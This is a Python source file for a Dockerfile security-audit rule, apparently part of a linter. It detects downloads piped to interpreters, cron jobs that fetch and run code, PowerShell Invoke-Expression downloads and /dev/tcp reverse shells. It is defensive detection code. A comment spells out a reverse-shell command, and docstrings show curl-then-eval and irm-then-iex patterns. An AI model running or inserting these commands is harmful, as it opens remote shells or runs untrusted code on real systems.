"""SRC001: A download is piped to an interpreter."""

from __future__ import annotations

import re
from collections.abc import Iterator

from reconstruct import pattern as lazy
from reconstruct.audit.context import Context
from reconstruct.audit.downloads import INTERPRETERS, base_program
from reconstruct.audit.finding import Family, Severity
from reconstruct.audit.piping import piped_downloads, piped_otherwise
from reconstruct.audit.rule import BEST_PRACTICES, Hit, Rule, cis, cwe, docker
from reconstruct.syntax import Cmd, Entrypoint, Healthcheck

_SCRIPT_BLOCK = lazy.compile(
    r"(?i)(?:\[scriptblock\]::Create\(|\b(?:iex|Invoke-Expression)\s+[\"'][^;]{0,80}?\$\()[^;]{0,200}?(?:\birm\b|\biwr\b|\bcurl\b|\bwget\b|Invoke-RestMethod|Invoke-WebRequest|DownloadString)"
    r"[^;]{0,200}?(?P<url>https?://[^\s'\")]+)"
)


_FETCHED = lazy.compile(r"(?i)^\s*(\$\w+)\s*=.*?(?:\birm\b|\biwr\b|Invoke-RestMethod|Invoke-WebRequest|DownloadString)")
# `bash -i >& /dev/tcp/10.0.0.1/4444`, wherever it is written.
_REVERSE = lazy.compile(r"\b(?:ba|da|z|k)?sh\s+-i\s*[0-9]?[>&<]{1,2}\s*/dev/tcp/")
_RUN_VARIABLE = lazy.compile(r"(?i)\b(?:iex|Invoke-Expression)\s+\(?(\$\w+)")
_URL = lazy.compile(r"https?://[^\s'\");]+")


def _by_variable(text: str) -> str:
    """The URL whose content PowerShell stores in a variable and then runs: `$s = irm URL; iex $s`; else empty."""
    fetched: dict[str, str] = {}
    for part in re.split(r"[;\n]", text):
        if (run := _RUN_VARIABLE.search(part)) and run.group(1).lower() in fetched:
            return fetched[run.group(1).lower()]
        if (kept := _FETCHED.search(part)) and (url := _URL.search(part)):
            fetched[kept.group(1).lower()] = url.group()
    return ""


# `x=$(curl …)`, and the variable run later.
_KEPT = lazy.compile(
    r"\b(?P<name>[A-Za-z_]\w*)=[\"']?\$\([^()]{0,200}?\b(?:curl|wget|fetch)\b[^()]{0,300}?(?P<url>https?://[^\s'\"()]+)[^()]{0,300}\)"
)


def _kept_and_run(text: str) -> str:
    """The address whose answer a shell keeps in a variable and then runs: `x=$(curl URL); eval "$x"`; else empty."""
    for kept in _KEPT.finditer(text[:20_000]):
        name = re.escape(kept["name"])
        used = rf"[\"']?\$\{{?{name}\b"
        runs = rf"\beval\s+{used}|\b(?:ba|da|z|k|a)?sh\s+-\w*c\s+{used}|\b(?:echo|printf\s+\S+)\s+{used}\}}?[\"']?\s*\|\s*(?:sudo\s+)?(?:ba|da|z|k|a)?sh\b|\b(?:ba|da|z|k|a)?sh\s*<<<\s*{used}"
        if re.search(runs, text[kept.end() : kept.end() + 5_000]):
            return kept["url"]
    return ""


# A line of a timetable that runs what it fetches.
_SCHEDULED = lazy.compile(
    r"(?:curl|wget)\b[^|;&\n]{0,300}?(?P<url>https?://[^\s'\"|;]+)[^|;&\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|da|z|k|a)?sh\b"
)


def _later(context: Context) -> Iterator[Hit]:
    """What is kept in a variable before it runs, and what a timetable fetches and runs."""
    for position, text in context.texts_with("curl", "wget", "fetch"):
        if "=" in text and (url := _kept_and_run(text)):
            message = f"the response of {context.show(url, 120)} is kept in a variable and run"
            yield Hit(position, message, subject=("variable", url))
        elif "cron" in text and (found := _SCHEDULED.search(text)) and _writes_timetable(context, position):
            message = f"{context.show(found['url'], 120)} is fetched and run by cron"
            yield Hit(position, message, subject=("cron", found["url"]))


def _writes_timetable(context: Context, position: int) -> bool:
    return any("cron" in target for command in context.commands(position) for target in command.outputs) or any(
        command.name == "crontab" for command in context.commands(position)
    )


def _at_start(context: Context) -> Iterator[Hit]:
    """Downloads that CMD, ENTRYPOINT and HEALTHCHECK run unverified, in every container."""
    for position in sorted(place for kind in (Cmd, Entrypoint, Healthcheck) for place, _ in context.of(kind)):
        if "http" not in context.text(position):
            continue
        for download, runner in piped_downloads(context, position):
            keyword, url = context.steps[position].instruction.keyword, context.show(download.urls[0], 120)
            yield Hit(
                position,
                f"{keyword}: {download.command.name} {url} is run by {runner.name} unverified, in every container",
                subject=(runner.name, *download.urls),
            )


def check(context: Context) -> Iterator[Hit]:
    """Fires if an interpreter runs a download unverified: `curl … | sh`, `sh -c "$(curl …)"`, PowerShell's `iex`."""
    yield from _at_start(context)
    yield from _later(context)
    for position, _ in context.texts_with("/dev/tcp/"):
        if _REVERSE.search(context.text(position)):
            yield Hit(position, "a shell is connected to another host", subject=("/dev/tcp",))
    runs_text = any(name in INTERPRETERS or base_program(name) in INTERPRETERS for name in context.programs)
    if not runs_text and "scriptblock" not in context.all_text:
        return
    for position, _ in context.runs():
        for download, runner in piped_downloads(context, position):
            url = download.urls[0] if download.urls else "a download"
            message = f"{download.command.name} {context.show(url, 120)} is run by {runner.name} unverified"
            yield Hit(position, message, subject=(runner.name, *download.urls))
        for piped in piped_otherwise(context, position):
            yield Hit(position, f"{piped.what} is run by {piped.runner}", subject=(piped.runner, piped.program))
        if context.language(position) == "powershell" and (match := _SCRIPT_BLOCK.search(context.text(position))):
            message = f"{context.show(match['url'], 120)} is run as a script block unverified"
            yield Hit(position, message, subject=("scriptblock", match["url"]))
        elif context.language(position) == "powershell" and (url := _by_variable(context.text(position))):
            message = f"{context.show(url, 120)} is run by Invoke-Expression unverified"
            yield Hit(position, message, subject=("Invoke-Expression", url))


rule = Rule(
    id="SRC001",
    name="download-piped-to-interpreter",
    family=Family.SOURCES,
    severity=Severity.HIGH,
    summary="A download is piped to an interpreter",
    why=(
        "`curl … | sh` and the like run whatever the server, or a man in the middle, sends at that moment. "
        "Nothing is verified, no copy is kept, and an interrupted download runs half a script. Two builds of the "
        "same Dockerfile can differ without a trace."
    ),
    fix=(
        "Download to a file, verify it against a checksum in the Dockerfile (or a signature), then run it. "
        "Better, install a package from a signed repository."
    ),
    references=(
        cwe(494, "Download of Code Without Integrity Check"),
        cwe(829, "Inclusion of Functionality from Untrusted Control Sphere"),
        cis("4.11", "Ensure only verified packages are installed"),
        docker("pipes", BEST_PRACTICES + "#using-pipes"),
    ),
    check=check,
)
